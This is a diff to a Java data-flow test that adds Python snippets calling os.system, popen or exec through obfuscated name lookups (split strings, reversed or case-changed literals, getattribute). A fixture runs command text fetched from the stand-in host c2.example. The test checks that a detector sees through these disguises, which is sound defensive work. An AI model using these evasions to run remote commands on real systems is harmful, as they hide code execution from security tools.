@@ -902,7 +902,13 @@ class DataFlowTest {
           "os.__dict__['sys' 'tem'](c)",
           "sys.modules.get('os').popen(c)",
           "__import__(''.join(map(chr, [111, 115]))).system(c)",
-          "getattr(os, ''.join(chr(x) for x in (115, 121, 115, 116, 101, 109)))(c)"
+          "getattr(os, ''.join(chr(x) for x in (115, 121, 115, 116, 101, 109)))(c)",
+          "object.__getattribute__(os, 'sys' + 'tem')(c)",
+          "os.__getattribute__('po' 'pen')(c)",
+          "getattr(os, 'SYSTEM'.lower())(c)",
+          "getattr(os, 'sys' + 'TEM'.lower())(c)",
+          "getattr(os, 'metsys'[::-1])(c)",
+          "getattr(builtins, 'ex' + 'EC'.casefold())(c)"
         })
     void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
       String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
